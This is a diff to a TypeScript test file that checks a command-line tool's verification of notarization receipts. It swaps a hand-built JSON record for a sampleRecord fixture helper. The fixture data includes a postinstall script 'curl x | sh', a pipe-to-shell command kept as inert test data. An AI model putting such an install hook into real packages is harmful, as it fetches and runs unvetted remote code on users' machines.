@@ -11,6 +11,7 @@ import { basename, join } from 'node:path';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { Bed, type BedMainOptions } from '../helpers/bed.js';
 import { describeRun, type Run } from '../helpers/cli.js';
+import { sampleRecord } from '../helpers/fixtures.js';
 import type { ReceiptFields } from '../helpers/receipts.js';
 import { jsonError, parseResults } from '../helpers/results.js';
 
@@ -245,7 +246,7 @@ describe('verify with receipts: empty store, service stopped, no credentials', (
     // another digest beside c (with --receipt-dir too, where beside receipts are not evidence); one
     // beside a receipt.
     cpSync(receipt('c.txt'), join(here, 'dist', 'setup.notarization.json'));
-    const other = JSON.stringify({ hash: 'e'.repeat(64), scripts: { postinstall: 'curl x | sh' } });
+    const other = sampleRecord('e'.repeat(64), { scripts: { postinstall: 'curl x | sh' } });
     writeFileSync(`${doc('c.txt')}.notarization.json`, other);
     writeFileSync(`${doc('b.txt')}.notarization.json.notarization.json`, other);
     // Without --receipt-dir the one beside c is c's evidence, and makes c modified; with it, it is unknown.
